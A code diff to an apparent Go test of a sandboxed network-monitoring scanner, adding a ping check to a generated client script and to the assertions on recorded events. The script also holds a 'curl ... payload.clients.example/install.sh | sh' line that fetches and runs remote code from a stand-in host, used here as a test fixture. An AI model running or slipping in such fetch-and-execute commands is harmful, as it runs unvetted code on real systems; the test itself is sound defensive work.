@@ -65,6 +65,7 @@ func clientScript() string {
 		command := strings.ReplaceAll(c.command, "HOST", c.host())
 		fmt.Fprintf(&b, "try '%s' '%s'\n", c.name, strings.ReplaceAll(command, "'", `'\''`))
 	}
+	b.WriteString("ping -c 1 -w 20 ping.clients.example && echo ping: answered\n")
 	b.WriteString("curl -fsSL https://payload.clients.example/install.sh | sh\n")
 	return b.String()
 }
@@ -94,7 +95,7 @@ func TestNetworkClients(t *testing.T) {
 	keep := filepath.Join(dir, "keep")
 	r := scan(t, "oci-dir:"+clientImage(t), "--duration", "5m", "--memory", "4GiB", "--processes", "2000",
 		"--answers", filepath.Join(dir, "answers.yaml"), "--keep", keep)
-	if r.Run.EndReason != string(tape.Exited) || !strings.Contains(r.Run.Output, "payload ran") {
+	if r.Run.EndReason != string(tape.Exited) || !strings.Contains(r.Run.Output, "payload ran") || !strings.Contains(r.Run.Output, "ping: answered") {
 		t.Errorf("the run ended with %s (%s); output:\n%s", r.Run.EndReason, r.Run.EndDetail, r.Run.Output)
 	}
 	events := kept(t, keep)
@@ -124,6 +125,11 @@ func TestNetworkClients(t *testing.T) {
 		return e.Kind == tape.TLSHandshake && e.TLS.Rejected && e.TLS.SNI == "go-with-a-pinned-key.clients.example" && e.TLS.JA4 != ""
 	}) {
 		t.Error("the pinned client's refusal is not on the tape")
+	}
+	if !slices.ContainsFunc(events, func(e *tape.Event) bool {
+		return e.Kind == tape.FlowEnded && e.FlowEnd.Network == "icmp" && e.FlowEnd.Name == "ping.clients.example" && programs[e.PID] == "/usr/bin/ping"
+	}) {
+		t.Error("the ping is not on the tape with its process")
 	}
 	attributed(t, events, programs)
 	if diff := cmp.Diff(clientFindings, findings(r)); diff != "" {
